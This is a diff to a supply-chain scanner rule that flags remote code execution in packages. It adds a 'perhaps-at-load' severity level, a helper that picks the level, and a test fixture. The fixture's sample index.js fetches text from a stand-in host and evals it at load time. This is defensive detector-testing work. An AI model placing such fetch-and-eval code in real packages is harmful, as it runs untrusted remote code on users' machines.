@@ -26,6 +26,10 @@ export const remoteCodeExecuted: Rule = defineRule({
   needs: ['behaviors'],
   kinds: {
     'when-called': { level: 'review', about: 'It happens only when a user of the package calls the function.' },
+    'perhaps-at-load': {
+      level: 'review',
+      about: 'A method is called on loading, and it is one of several of that name that does it.',
+    },
     'by-request': { level: 'block', about: 'Whoever sends a request to the server decides what runs there.' },
   },
   flags: [
@@ -45,6 +49,25 @@ export const remoteCodeExecuted: Rule = defineRule({
           message: 'eval runs what the network answered',
           at: { in: 'tarball', path: 'index.js', line: 4 },
           via: ['main', 'index.js', '(anonymous function)', '(anonymous function)'],
+        },
+      ],
+    },
+    {
+      title: 'one of two methods of a name',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `
+exports.Loader = class { start() { fetch('https://code.invalid/').then((answer) => answer.text()).then((text) => eval(text)); } };
+exports.Timer = class { start() {} };
+require('sample').make().start();
+`,
+      },
+      expect: [
+        {
+          kind: 'perhaps-at-load',
+          message: 'eval runs what the network answered',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js', 'start()', '(anonymous function)'],
         },
       ],
     },
@@ -225,14 +248,17 @@ exports.page = (req) => exports.compile('return data')(req.url);
       if (runsRequest(behavior))
         return [evidenceOf(behavior, `${behavior.api} runs what somebody sends in a request`, 'by-request')];
       const seen = describe(behavior, written) ?? describeFile(behavior, added);
-      return seen === undefined
-        ? []
-        : [evidenceOf(behavior, seen, behavior.tier === 'call' || behavior.doubtful ? 'when-called' : undefined)];
+      return seen === undefined ? [] : [evidenceOf(behavior, seen, kindOf(behavior))];
     });
   },
 });
 
-type Kind = 'when-called' | 'by-request';
+type Kind = 'when-called' | 'perhaps-at-load' | 'by-request';
+
+function kindOf({ tier, doubtful }: Behavior): Kind | undefined {
+  if (tier === 'call') return 'when-called';
+  return doubtful ? 'perhaps-at-load' : undefined;
+}
 
 /** The whole of it: a word in a command that is the package's own is no door. */
 function runsRequest({ kind, detail, origins, guessed = [] }: Behavior): boolean {
